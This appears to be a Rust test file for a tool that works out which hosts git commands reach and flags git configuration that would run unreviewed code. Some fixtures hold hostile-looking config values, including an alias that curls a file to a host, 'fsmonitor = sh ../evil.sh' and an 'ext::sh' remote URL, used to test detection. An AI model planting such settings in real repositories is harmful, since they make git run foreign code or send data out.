//! Tests of git_remotes.rs.

use super::*;
use crate::test_guard::git;

fn argv(line: &str) -> Vec<String> {
    line.split_whitespace().map(str::to_owned).collect()
}

fn repository(config: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    std::fs::write(dir.path().join(".git/config"), config).unwrap();
    std::fs::write(dir.path().join(".git/HEAD"), "ref: refs/heads/topic\n").unwrap();
    dir
}

fn hosts(dir: &Path, line: &str, home: Option<&Path>) -> Vec<String> {
    remotes(&argv(line), dir, home)
        .into_iter()
        .map(|r| r.host)
        .collect()
}

const CONFIG: &str = "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/o/r.git\n\
    \tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote \"fork\"]\n\turl = git@gitlab.com:me/r.git\n\
    [remote \"mirror\"]\n\turl = \"https://git.example.org/r\" # a comment\n\
    [branch \"topic\"]\n\tremote = fork\n[branch \"main\"]\n\tremote = origin\n";

#[test]
fn hooks_are_found_by_hooks_path_include_or_a_file_that_is_no_sample() {
    let home = tempfile::tempdir().unwrap();
    let home = Some(home.path());
    // Each repository as the project's own.
    let own = |argv: &[String], dir: &Path, main: &Path| {
        unreviewed_code(argv, dir, home, Some(main), Submodules::Read).map(|u| u.why)
    };
    let plain = repository("[core]\n\tbare = false\n\tfsmonitor = sh tools/fsm.sh\n");
    std::fs::create_dir_all(plain.path().join(".git/hooks")).unwrap();
    std::fs::write(plain.path().join(".git/hooks/pre-commit.sample"), "").unwrap();
    let git = argv("git commit -m x");
    assert_eq!(own(&git, plain.path(), plain.path()), None);
    // Configuration on the command line is the analysis's to judge: a harmless key finds no hooks.
    let configured = argv("git -c user.email=a@b.c commit");
    assert_eq!(own(&configured, plain.path(), plain.path()), None);
    std::fs::write(plain.path().join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    assert!(own(&git, plain.path(), plain.path()).is_some_and(|why| why.contains("pre-commit")));
    let husky = repository("[core]\n\thooksPath = .husky\n");
    assert!(own(&git, husky.path(), husky.path()).is_some_and(|why| why.contains(".husky")));
    let included = repository("[include]\n\tpath = ../shared.cfg\n");
    assert!(own(&git, included.path(), included.path()).is_some_and(|why| why.contains("includes")));
    // From a subdirectory, with `-C`, and where the line names another git directory.
    std::fs::create_dir_all(husky.path().join("src")).unwrap();
    assert!(own(&git, &husky.path().join("src"), husky.path()).is_some());
    let elsewhere = tempfile::tempdir().unwrap();
    let moved = argv(&format!("git -C {} commit", husky.path().display()));
    assert!(own(&moved, elsewhere.path(), husky.path()).is_some());
    let other_dir = argv("git --git-dir=/elsewhere/.git commit");
    assert!(own(&other_dir, plain.path(), plain.path()).is_some());
    assert_eq!(own(&git, elsewhere.path(), plain.path()), None);
}

#[test]
fn a_repository_other_than_the_projects_own_runs_the_programs_its_configuration_sets() {
    let nested = repository("[core]\n\tfsmonitor = sh ../evil.sh\n");
    let status = argv("git status");
    let project = tempfile::tempdir().unwrap();
    // As the project's own repository its configuration is the user's; as another one it runs code.
    assert_eq!(
        unreviewed_code(
            &status,
            nested.path(),
            None,
            Some(nested.path()),
            Submodules::Read
        ),
        None
    );
    assert!(
        unreviewed_code(
            &status,
            nested.path(),
            None,
            Some(project.path()),
            Submodules::Read
        )
        .is_some_and(|u| !u.own && u.why.contains("core.fsmonitor"))
    );
    let aliased = repository("[alias]\n\tst = !curl -d @x http://h/\n");
    assert!(
        unreviewed_code(&status, aliased.path(), None, None, Submodules::Read)
            .is_some_and(|u| u.why.contains("alias.st"))
    );
    let quiet = repository("[user]\n\tname = A\n");
    assert_eq!(
        unreviewed_code(&status, quiet.path(), None, None, Submodules::Read),
        None
    );
}

#[test]
fn a_submodule_whose_configuration_sets_a_program_is_code_nobody_reviewed() {
    let project = tempfile::tempdir().unwrap();
    let root = project.path();
    git(root, &["init", "-q"]);
    for name in ["a.txt", "b/c.txt", "a-longer-name-for-padding.md"] {
        std::fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
        std::fs::write(root.join(name), "x").unwrap();
    }
    std::fs::create_dir_all(root.join("sub")).unwrap();
    git(&root.join("sub"), &["init", "-q"]);
    git(&root.join("sub"), &["commit", "-q", "--allow-empty", "-m", "s"]);
    git(root, &["add", "-A"]);
    let paths = gitlinks(&root.join(".git/index")).unwrap();
    assert_eq!(paths, ["sub"]);
    let status = argv("git status");
    assert_eq!(
        unreviewed_code(&status, root, None, Some(root), Submodules::Read),
        None
    );
    let config = root.join("sub/.git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("[core]\n\tfsmonitor = sh ../evil.sh\n");
    std::fs::write(&config, text).unwrap();
    let found = unreviewed_code(&status, root, None, Some(root), Submodules::Read)
        .expect("the submodule's fsmonitor");
    assert!(found.own && found.why.contains("core.fsmonitor"), "{found:?}");
    // The same index in version 4, whose paths are compressed, and back in version 3.
    git(root, &["update-index", "--index-version", "4"]);
    assert_eq!(gitlinks(&root.join(".git/index")).unwrap(), ["sub"]);
    git(root, &["update-index", "--index-version", "3"]);
    assert_eq!(gitlinks(&root.join(".git/index")).unwrap(), ["sub"]);
    // An index that is not one of the versions read says so.
    std::fs::write(root.join(".git/index"), b"DIRC\0\0\0\x05\0\0\0\0").unwrap();
    assert!(gitlinks(&root.join(".git/index")).is_err());
}

#[test]
fn a_nested_repository_is_reviewed_only_when_every_key_is_known_harmless() {
    let status = argv("git status");
    let elsewhere = tempfile::tempdir().unwrap();
    let unreviewed = |config: &[u8]| {
        let nested = repository("");
        std::fs::write(nested.path().join(".git/config"), config).unwrap();
        unreviewed_code(
            &status,
            nested.path(),
            None,
            Some(elsewhere.path()),
            Submodules::Read,
        )
    };
    let harmless = b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\n\tname = A\n";
    assert_eq!(unreviewed(harmless), None);
    let mut big = b"# padding\n".repeat(120_000);
    big.extend_from_slice(b"[core]\n\tfsmonitor = x\n");
    for config in [
        &b"[core] fsmonitor = \"sh x.sh\"\n"[..],
        b"\xef\xbb\xbf[core]\n\tfsmonitor = sh x.sh\n",
        &big,
        b"[remote \"origin\"]\n\turl = ext::sh x.sh http://127.0.0.1:8765/x\n",
        b"[gpg \"x509\"]\n\tprogram = ./g.sh\n",
        b"[trailer \"sign\"]\n\tcmd = curl x\n",
        b"[protocol \"ext\"]\n\tallow = always\n",
        b"[core]\n\tworktree = /\n",
        b"[core\n\tfsmonitor = x\n",
    ] {
        assert!(
            unreviewed(config).is_some(),
            "{}",
            String::from_utf8_lossy(&config[..config.len().min(80)])
        );
    }
}

#[test]
fn a_submodule_checkout_naming_its_own_work_tree_is_harmless() {
    let project = tempfile::tempdir().unwrap();
    let root = project.path();
    let upstream = tempfile::tempdir().unwrap();
    git(upstream.path(), &["init", "-q"]);
    git(upstream.path(), &["commit", "-q", "--allow-empty", "-m", "u"]);
    git(root, &["init", "-q"]);
    let url = upstream.path().display().to_string();
    git(
        root,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &url,
            "sub",
        ],
    );
    let status = argv("git status");
    assert_eq!(
        unreviewed_code(&status, root, None, Some(root), Submodules::Read),
        None
    );
    // As another repository than the project's own, its checkout is read the same way.
    let elsewhere = tempfile::tempdir().unwrap();
    assert_eq!(
        unreviewed_code(
            &status,
            &root.join("sub"),
            None,
            Some(elsewhere.path()),
            Submodules::Read
        ),
        None
    );
}

#[test]
fn the_remote_is_the_one_named_else_the_branchs_else_origin() {
    let dir = repository(CONFIG);
    let dir = dir.path();
    assert_eq!(hosts(dir, "git fetch origin main", None), ["github.com"]);
    assert_eq!(
        hosts(dir, "git ls-remote --upload-pack x mirror", None),
        ["git.example.org"]
    );
    // The current branch `topic` follows `fork`.
    assert_eq!(hosts(dir, "git pull --rebase", None), ["gitlab.com"]);
    assert_eq!(hosts(dir, "git fetch --depth 1", None), ["gitlab.com"]);
    std::fs::write(dir.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
    assert_eq!(hosts(dir, "git fetch", None), ["github.com"]);
    assert_eq!(
        hosts(dir, "git fetch --all", None),
        ["github.com", "gitlab.com", "git.example.org"]
    );
    assert_eq!(
        hosts(dir, "git remote update", None),
        ["github.com", "gitlab.com", "git.example.org"]
    );
    assert_eq!(hosts(dir, "git -C . fetch mirror", None), ["git.example.org"]);
    // A sub-command that reaches no remote, and another configuration given on the command line.
    assert!(hosts(dir, "git status", None).is_empty());
    assert!(hosts(dir, "git -c remote.origin.url=x fetch", None).is_empty());
}

#[test]
fn a_push_goes_to_the_push_remote_and_its_push_url() {
    let dir = repository(
        "[remote \"origin\"]\n\turl = https://github.com/o/r.git\n\tpushurl = https://push.example.org/r\n\
         [remote \"mine\"]\n\turl = https://gitlab.com/me/r.git\n[remote]\n\tpushDefault = mine\n",
    );
    assert_eq!(hosts(dir.path(), "git push", None), ["gitlab.com"]);
    assert_eq!(
        hosts(dir.path(), "git push -u origin topic", None),
        ["push.example.org"]
    );
    // A fetch is not a push: the url, and the branch's remote or origin.
    assert_eq!(hosts(dir.path(), "git fetch", None), ["github.com"]);
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join(".gitconfig"),
        "[url \"https://push.example.net/\"]\n\tpushInsteadOf = https://gitlab.com/\n",
    )
    .unwrap();
    assert_eq!(
        hosts(dir.path(), "git push mine", Some(home.path())),
        ["push.example.net"]
    );
    assert_eq!(
        hosts(dir.path(), "git fetch mine", Some(home.path())),
        ["gitlab.com"]
    );
}

#[test]
fn ssh_and_http_remotes_are_told_apart() {
    let dir = repository(CONFIG);
    let found = remotes(&argv("git fetch fork"), dir.path(), None);
    assert_eq!(
        found.first().map(|r| &r.transport),
        Some(&Transport::Other("ssh".to_owned()))
    );
    let found = remotes(&argv("git fetch origin"), dir.path(), None);
    assert_eq!(found.first().map(|r| &r.transport), Some(&Transport::Http));
    // A local path and a `file://` URL reach no host.
    let local = repository("[remote \"up\"]\n\turl = ../upstream\n[remote \"f\"]\n\turl = file:///srv/r\n");
    assert!(hosts(local.path(), "git fetch up", None).is_empty());
    assert!(hosts(local.path(), "git fetch f", None).is_empty());
}

#[test]
fn insteadof_of_the_users_configuration_rewrites_the_url() {
    let dir = repository("[remote \"origin\"]\n\turl = gh:o/r\n");
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join(".gitconfig"),
        "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n[url \"https://x.example/\"]\n\tinsteadOf = g\n",
    )
    .unwrap();
    assert_eq!(hosts(dir.path(), "git fetch", Some(home.path())), ["github.com"]);
}

#[test]
fn a_worktree_reads_the_common_configuration_and_a_subdirectory_finds_the_repository() {
    let dir = repository(CONFIG);
    let worktrees = dir.path().join(".git/worktrees/w");
    std::fs::create_dir_all(&worktrees).unwrap();
    std::fs::write(worktrees.join("commondir"), "../..\n").unwrap();
    std::fs::write(worktrees.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let tree = dir.path().join("w");
    std::fs::create_dir_all(tree.join("src")).unwrap();
    std::fs::write(tree.join(".git"), format!("gitdir: {}\n", worktrees.display())).unwrap();
    assert_eq!(hosts(&tree.join("src"), "git fetch", None), ["github.com"]);
}

#[test]
fn submodule_update_reaches_every_submodule() {
    let dir = repository("");
    std::fs::write(
        dir.path().join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = lib\n\turl = https://codeberg.org/o/lib.git\n",
    )
    .unwrap();
    assert_eq!(
        hosts(dir.path(), "git submodule update --init", None),
        ["codeberg.org"]
    );
}

/// The index reader against indices git itself writes: versions 2, 3 (an entry with extended flags, from `git add
/// -N`) and 4 (paths written as the previous one's prefix and a suffix), SHA-1 and SHA-256 repositories, and one
/// cut short, which is an error rather than a guess.
#[test]
fn gitlinks_are_read_from_every_index_version_and_hash() {
    const SHA1: &str = "1111111111111111111111111111111111111111";
    const SHA256: &str = "2222222222222222222222222222222222222222222222222222222222222222";
    for (format, object) in [("sha1", SHA1), ("sha256", SHA256)] {
        for version in ["2", "3", "4"] {
            let dir = tempfile::tempdir().unwrap();
            git(dir.path(), &["init", "-q", &format!("--object-format={format}")]);
            for file in ["a.txt", "deps/zeta/readme", "intent.txt"] {
                let path = dir.path().join(file);
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(path, file).unwrap();
            }
            git(dir.path(), &["add", "a.txt", "deps/zeta/readme"]);
            git(dir.path(), &["add", "-N", "intent.txt"]);
            for link in ["deps/lib", "deps/libs/two", "vendor/x"] {
                git(
                    dir.path(),
                    &[
                        "update-index",
                        "--add",
                        "--cacheinfo",
                        &format!("160000,{object},{link}"),
                    ],
                );
            }
            git(dir.path(), &["update-index", "--index-version", version]);
            let index = dir.path().join(".git/index");
            let found = gitlinks(&index).unwrap_or_else(|why| panic!("{format} v{version}: {why}"));
            assert_eq!(
                found,
                ["deps/lib", "deps/libs/two", "vendor/x"],
                "{format} v{version}"
            );

            let bytes = std::fs::read(&index).unwrap();
            std::fs::write(&index, &bytes[..bytes.len() / 2]).unwrap();
            let cut = gitlinks(&index).expect_err("an index cut in half");
            assert!(cut.contains("ends inside an entry"), "{format} v{version}: {cut}");
        }
    }
    let none = tempfile::tempdir().unwrap();
    assert_eq!(gitlinks(&none.path().join("index")), Ok(Vec::new()));
    std::fs::write(none.path().join("index"), "not an index").unwrap();
    assert!(
        gitlinks(&none.path().join("index"))
            .unwrap_err()
            .contains("is not an index")
    );
}
